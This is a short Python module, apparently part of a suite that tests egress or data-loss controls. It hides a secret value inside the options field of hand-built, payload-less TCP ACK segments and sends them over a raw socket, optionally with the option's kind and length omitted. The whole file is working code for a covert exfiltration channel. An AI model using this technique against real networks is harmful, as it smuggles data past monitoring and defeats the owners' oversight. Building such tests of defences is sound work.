"""The value in the options of a TCP segment made by hand, which has no payload.

A segment without payload is asked for no owner. The option's kind is one for experiments
(RFC 4727). `bare`: no kind and no length either, the value takes their place.
"""

from __future__ import annotations

import socket

from attacks.frames import ACK, Segment, ip4
from attacks.target import Target, refused

EXPERIMENT = 253
PORT = 41_000


def main(target: Target) -> None:
    """Some of them, by a raw socket."""
    value = target.secret
    option = value if target.args.get("bare") else bytes([EXPERIMENT, len(value) + 2]) + value
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for number in range(4):
            segment = Segment(
                source_port=PORT + number, port=target.port, seq=1, ack=1, flags=ACK, options=option
            )
            packed = segment.packed(target.sources[4], target.addresses[4])
            packet = ip4(target.sources[4], target.addresses[4], socket.IPPROTO_TCP, packed)
            with refused():
                out.sendto(packet, (target.addresses[4], 0))
